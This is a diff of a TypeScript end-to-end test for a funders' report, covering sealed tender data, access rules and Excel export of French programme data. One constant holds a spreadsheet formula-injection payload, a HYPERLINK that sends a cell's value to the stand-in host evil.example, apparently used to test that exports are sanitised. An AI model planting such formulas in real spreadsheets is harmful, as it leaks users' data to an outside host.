@@ -8,7 +8,8 @@ import ExcelJS from 'exceljs';
 import { toParisDate } from '../../domain/calendar';
 import type { TemplateInput } from '../../domain/template-schema';
 import { apiClient, createOrganisation, createUser, publishTemplates, startHarness, waitFor, type Harness, type TestUser } from '../support/harness';
-import { expectReadModelInSync, waitForReadModelInSync } from '../support/read-model';
+import { waitForReadModelInSync } from '../support/read-model';
+import { runTenderToNotification } from '../support/tender-flow';
 
 const FRENCH_MONTHS = ['janvier', 'février', 'mars', 'avril', 'mai', 'juin', 'juillet', 'août', 'septembre', 'octobre', 'novembre', 'décembre'];
 /** "2026-12-14" → "14 décembre 2026" ("1er" on the first), written independently of the code under test. */
@@ -17,7 +18,8 @@ function frenchDay(isoDate: string): string {
   return `${d === 1 ? '1er' : d} ${FRENCH_MONTHS[m - 1]} ${y}`;
 }
 
-const INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';
+const RUN = Date.now().toString(36);
+const INJECTED = `=HYPERLINK("http://evil.example/?x="&A1,"clic ${RUN}")`;
 
 function daqTemplate(key: string): TemplateInput {
   return {
@@ -75,7 +77,7 @@ describe("funders' report", () => {
 
   it('DEFI: partners per phase, the evaluation tender’s compliance record, late steps; for the team, managers and admins only', async () => {
     const defi = await ok(api.post('/api/v1/programmes', { templateKey: 'defi', title: 'DEFI — Destination Formation Innovante', startDate: '2021-01-04' }, coordinator.token), 201);
-    const afpa = await createOrganisation(h, 'AFPA');
+    const afpa = await createOrganisation(h, `AFPA ${RUN}`);
     partner = await createUser(h, 'partner', afpa);
     await ok(api.post(`/api/v1/programmes/${defi.id}/partners`, { organisationId: afpa, phaseKey: 'test' }, coordinator.token), 201);
     await ok(api.post(`/api/v1/programmes/${defi.id}/indicators/partners-contacted`, { value: 40 }, coordinator.token));
@@ -84,37 +86,24 @@ describe("funders' report", () => {
 
     // The evaluation tender: three providers consulted, two answer by the deadline, one is late and refused.
     const tenderId = `${defi.id}.tender-evaluation`;
-    const names = ['Évaluation Conseil', 'Didaction', 'Cabinet Tardif'];
-    const providers = await Promise.all(names.map((n) => createOrganisation(h, n, 'contractor')));
-    const [pa, pb, pc] = await Promise.all(providers.map((o) => createUser(h, 'partner', o)));
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/write-specification/deliverables`, { title: 'Cahier des charges évaluation', url: 'https://example.org/cdc.pdf' }, coordinator.token), 201);
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/write-specification/complete`, {}, coordinator.token));
-    for (const o of providers) await ok(api.post(`/api/v1/programmes/${tenderId}/partners`, { organisationId: o, phaseKey: 'consultation' }, coordinator.token), 201);
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/send/complete`, {}, coordinator.token));
-    await ok(api.patch(`/api/v1/programmes/${tenderId}/steps/answers`, { dueAt: new Date(Date.now() + 4000).toISOString() }, coordinator.token));
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/answers/deliverables`, { title: 'Offre Évaluation Conseil', url: 'https://a.example/offre.pdf' }, pa!.token), 201);
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/answers/deliverables`, { title: 'Offre Didaction', url: 'https://b.example/offre.pdf' }, pb!.token), 201);
-
-    // Sealed: a manager reads the tender's progress, no bidder; the team reads everything.
-    const sealedForManager = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, manager.token));
-    const sealedTender = sealedForManager.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId);
-    expect([sealedTender.sealed, sealedTender.providers, sealedTender.answers, sealedTender.scores, sealedTender.winner]).toEqual([true, null, null, null, null]);
-    for (const n of names) expect(JSON.stringify(sealedForManager)).not.toContain(n);
-    const sealedForTeam = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, coordinator.token));
-    expect(sealedForTeam.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId).providers).toEqual(names);
-
-    const deadline = Date.parse((await expectReadModelInSync(h, tenderId)).steps.find((s) => s.key === 'answers')!.dueAt!);
-    await new Promise((r) => setTimeout(r, Math.max(0, deadline - Date.now() + 300)));
-    expect((await api.post(`/api/v1/programmes/${tenderId}/steps/answers/deliverables`, { title: 'Offre tardive', url: 'https://c.example/offre.pdf' }, pc!.token)).status).toBe(409);
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/answers/complete`, { note: 'Réception close' }, coordinator.token));
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/assessment/complete`, { data: { scores: { [providers[0]!]: { price: 12, technical: 17 }, [providers[1]!]: { price: 16, technical: 11 } } } }, coordinator.token));
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/award/complete`, { data: { winner: providers[0] } }, coordinator.token));
-    await ok(api.post(`/api/v1/programmes/${tenderId}/steps/notify/complete`, {}, coordinator.token));
+    const names: [string, string, string] = [`Évaluation Conseil ${RUN}`, `Didaction ${RUN}`, `Cabinet Tardif ${RUN}`];
+    const { providers, deadline, partners } = await runTenderToNotification(h, coordinator, tenderId, names, [{ price: 12, technical: 17 }, { price: 16, technical: 11 }], {
+      // Sealed until the award: a manager reads the tender's progress, no bidder; the team reads everything.
+      async beforeDeadline() {
+        const sealedForManager = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, manager.token));
+        const sealedTender = sealedForManager.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId);
+        expect([sealedTender.sealed, sealedTender.providers, sealedTender.answers, sealedTender.scores, sealedTender.winner]).toEqual([true, null, null, null, null]);
+        for (const n of names) expect(JSON.stringify(sealedForManager)).not.toContain(n);
+        const sealedForTeam = await ok(api.get(`/api/v1/programmes/${defi.id}/report`, coordinator.token));
+        expect(sealedForTeam.tenders.find((t: { programmeId: string }) => t.programmeId === tenderId).providers).toEqual(names);
+      },
+    });
     await waitFor('the award to reach DEFI', async () => (await waitForReadModelInSync(h, defi.id)).slots.evaluator === providers[0]);
+    const pa = partners[0]!;
 
     // Who may read it: the team, managers, admins; not a coordinator outside the team, never a partner.
     expect((await api.get(`/api/v1/programmes/${defi.id}/report`, outsider.token)).body.code).toBe('not_programme_member');
-    for (const p of [partner, pa!]) {
+    for (const p of [partner, pa]) {
       expect((await api.get(`/api/v1/programmes/${defi.id}/report`, p.token)).status).toBe(403);
       expect((await download(`/api/v1/programmes/${defi.id}/report.xlsx`, p.token)).status).toBe(403);
     }
@@ -137,25 +126,26 @@ describe("funders' report", () => {
           { key: 'technical', label: 'Valeur technique', weight: 60 },
         ],
         scores: [
-          { organisation: 'Évaluation Conseil', rank: 1, byCriterion: { price: 12, technical: 17 }, total: 15 },
-          { organisation: 'Didaction', rank: 2, byCriterion: { price: 16, technical: 11 }, total: 13 },
+          { organisation: names[0], rank: 1, byCriterion: { price: 12, technical: 17 }, total: 15 },
+          { organisation: names[1], rank: 2, byCriterion: { price: 16, technical: 11 }, total: 13 },
         ],
-        winner: 'Évaluation Conseil',
+        winner: names[0],
         compliance: ['3 prestataires consultés (minimum 3)', 'toutes les réponses reçues dans les délais', 'chaque offre notée sur chaque critère', 'titulaire classé premier', 'candidats notifiés'],
       });
       expect(tender.answers.map((a: { organisation: string; onTime: boolean }) => [a.organisation, a.onTime])).toEqual([
-        ['Évaluation Conseil', true],
-        ['Didaction', true],
+        [names[0], true],
+        [names[1], true],
       ]);
       expect([toParisDate(new Date(tender.awardedAt)), toParisDate(new Date(tender.notifiedAt))]).toEqual([today, today]);
       // The two other tenders have not begun: sealed to the manager, open to the team (nobody consulted yet).
       expect(report.tenders).toHaveLength(3);
-      expect(report.enrolments.find((e: { phase: string }) => e.phase === 'Phase Test')).toMatchObject({ capacity: { min: 1, max: 1 }, organisations: [{ name: 'AFPA', slot: null }] });
+      expect(report.enrolments.find((e: { phase: string }) => e.phase === 'Phase Test')).toMatchObject({ capacity: { min: 1, max: 1 }, organisations: [{ name: `AFPA ${RUN}`, slot: null }] });
       expect(report.indicators.map((i: { key: string; target: number; valueAtEnd: number; rate: number }) => [i.key, i.target, i.valueAtEnd, i.rate])).toEqual([
         ['partners-contacted', 40, 40, 100],
         ['partners-met', 14, 14, 100],
       ]);
       expect(report.actions.map((a: { step: string }) => a.step)).toContain('Mobilisation des partenaires');
+      expect(report.milestones).toContainEqual({ name: 'Marché attribué — Consultation évaluation continue', dueAt: null, reachedAt: tender.awardedAt, state: 'reached', stateLabel: 'Atteint' });
       // Started on 4 January 2021: partner mobilisation was due 180 days later and done today.
       const mobilisation = report.lateSteps.find((s: { step: string }) => s.step === 'Mobilisation des partenaires');
       expect(mobilisation).toMatchObject({ state: 'done', stateLabel: 'Réalisée en retard' });
@@ -182,13 +172,13 @@ describe("funders' report", () => {
     const tenders = rows('Consultations et marchés');
     expect(tenders[0]).toEqual(['Consultation', 'Statut', 'Cahier des charges', 'Nombre consultés', 'Prestataires consultés', 'Date limite des réponses', 'Réponses reçues', 'Réponses dans les délais', 'Critères (pondération)', 'Titulaire', 'Attribué le', 'Notifié le', 'Contrat signé le', 'Conformité']);
     const evaluation = tenders.find((r) => r[0] === 'Consultation évaluation continue')!;
-    expect(evaluation.slice(3, 13)).toEqual([3, 'Évaluation Conseil, Didaction, Cabinet Tardif', frenchDay(toParisDate(new Date(deadline))), 2, 2, 'Prix (40 %), Valeur technique (60 %)', 'Évaluation Conseil', frenchDay(today), frenchDay(today), undefined]);
+    expect(evaluation.slice(3, 13)).toEqual([3, names.join(', '), frenchDay(toParisDate(new Date(deadline))), 2, 2, 'Prix (40 %), Valeur technique (60 %)', names[0], frenchDay(today), frenchDay(today), undefined]);
     expect(rows('Notes des offres')).toEqual([
       ['Consultation', 'Candidat', 'Reçue le', 'Dans les délais', 'Prix', 'Valeur technique', 'Note pondérée /20', 'Rang'],
-      ['Consultation évaluation continue', 'Évaluation Conseil', frenchDay(today), 'oui', 12, 17, 15, 1],
-      ['Consultation évaluation continue', 'Didaction', frenchDay(today), 'oui', 16, 11, 13, 2],
+      ['Consultation évaluation continue', names[0], frenchDay(today), 'oui', 12, 17, 15, 1],
+      ['Consultation évaluation continue', names[1], frenchDay(today), 'oui', 16, 11, 13, 2],
     ]);
-    expect(rows('Partenaires inscrits par phase')).toContainEqual(['Phase Test', '1 / 1', 'AFPA', frenchDay(today)]);
+    expect(rows('Partenaires inscrits par phase')).toContainEqual(['Phase Test', '1 / 1', `AFPA ${RUN}`, frenchDay(today)]);
     expect(rows('Indicateurs')).toEqual([
       ['Indicateur', 'Unité', 'Objectif', 'Réalisé en fin de période', 'Évolution sur la période', 'Taux d’atteinte (%)'],
       ['Réseaux et organismes de formation contactés', undefined, 40, 40, 40, 100],
